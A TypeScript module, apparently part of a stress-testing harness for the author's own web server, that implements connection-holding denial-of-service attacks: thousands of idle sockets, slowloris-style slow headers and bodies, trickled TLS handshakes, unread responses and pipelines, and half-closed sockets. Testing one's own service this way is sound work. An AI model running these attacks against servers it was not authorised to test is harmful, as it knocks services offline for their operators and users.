/** Attacks that hold what others need: connections, bodies, readers. */
import type net from 'node:net';
import { scaled, type Attack, type Running, type Target } from './attack.js';
import { connect, connectMany, stillOpen } from './wire.js';

const HEAD = 'Host: x\r\nContent-Type: application/x-www-form-urlencoded\r\n';

/** Opens `count` connections, says `first` on each, and then `next` every so often; opens new ones for those that were cut. */
function holding(
  name: string,
  full: number,
  { first = '', next = '', every = 1000, read = true, mirror = false }: Holding,
): Attack {
  return {
    name,
    async begin(target) {
      const count = scaled(target, full);
      const state = { stopped: false, made: 0 };
      let sockets: net.Socket[] = [];
      const words = typeof first === 'function' ? first : (): string | Buffer => first;
      const fill = async (): Promise<void> => {
        sockets = sockets.filter((socket) => !socket.destroyed && socket.readable);
        const opened = await connectMany(
          mirror ? target.mirror : target.place,
          count - sockets.length,
          () => state.stopped,
        );
        state.made += opened.length;
        for (const socket of opened) {
          if (read) socket.resume();
          else socket.pause();
          socket.write(words(target));
        }
        sockets.push(...opened);
      };
      const go = async (): Promise<void> => {
        while (!state.stopped) {
          if (next !== '') for (const socket of sockets) if (socket.writable) socket.write(next);
          await new Promise((resolve) => setTimeout(resolve, every));
          await fill();
        }
      };
      await fill();
      const going = go();
      return {
        held: () => `${stillOpen(sockets)} of ${state.made} connections`,
        wrong: () => [],
        async stop() {
          state.stopped = true;
          await going;
          for (const socket of sockets) socket.destroy();
        },
      };
    },
  };
}

interface Holding {
  readonly first?: string | Buffer | ((target: Target) => string);
  readonly next?: string | Buffer;
  readonly every?: number;
  readonly read?: boolean;
  /** Aimed at the listener that speaks TLS. */
  readonly mirror?: boolean;
}

/** A TLS record of 248 bytes that begins a ClientHello: the rest trickles. */
const HELLO = Buffer.from('16030100f8010000f40303', 'hex');
const GET = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n\r\n`;
let turn = 0;
const progressId = (): string => `attack${String(turn++).padStart(16, '0')}`;

export const HOLDING: readonly Attack[] = [
  holding('idle connections', 10_000, {}),
  holding('idle TLS handshakes', 5_000, { first: HELLO, next: Buffer.from([0]), mirror: true }),
  holding('slow headers', 5_000, { first: 'GET / HTTP/1.1\r\nHost: x\r\n', next: 'X-A: b\r\n' }),
  holding('slow bodies of uploads', 1_000, {
    first: 'PUT /a.txt HTTP/1.1\r\nHost: x\r\nContent-Length: 50000000\r\n\r\nwords ',
    next: 'w'.repeat(1200),
  }),
  holding('slow bodies of forms', 5_000, {
    first: `POST /contact HTTP/1.1\r\n${HEAD}Content-Length: 60000\r\n\r\nmessage=`,
    next: 'a',
  }),
  holding('slow readers of a file of 20 MB', 1_000, {
    first: ({ shares }) => GET(`/file/${shares.large}`),
    read: false,
  }),
  holding('pages of an album that nobody reads', 1_000, {
    first: ({ shares }) => GET(`/view/${shares.album}`),
    read: false,
  }),
  holding('pipelined requests, answers not read', 200, { first: GET('/').repeat(500), read: false }),
  holding('progress documents', 2_000, { first: () => GET(`/progress/${progressId()}`) }),
  halfClosed(),
];

/** A client that closes its half at once, with a request, half of one, or nothing sent. */
function halfClosed(): Attack {
  const starts = ['', 'GET / HT', GET('/'), 'PUT /a.txt HTTP/1.1\r\nHost: x\r\nContent-Length: 500000\r\n\r\nwords'];
  return {
    name: 'half-closed sockets',
    begin(target): Promise<Running> {
      const state = { stopped: false, made: 0 };
      const go = async (): Promise<void> => {
        for (let i = 0; !state.stopped; i++) {
          const socket = await connect(target.place, { allowHalfOpen: true });
          if (socket === null) continue;
          state.made++;
          socket.end(starts[i % starts.length] ?? '');
          socket.resume();
          setTimeout(() => socket.destroy(), 2000);
        }
      };
      const going = Promise.all(Array.from({ length: 20 }, go));
      return Promise.resolve({
        held: () => `${state.made} made`,
        wrong: () => [],
        async stop() {
          state.stopped = true;
          await going;
        },
      });
    },
  };
}
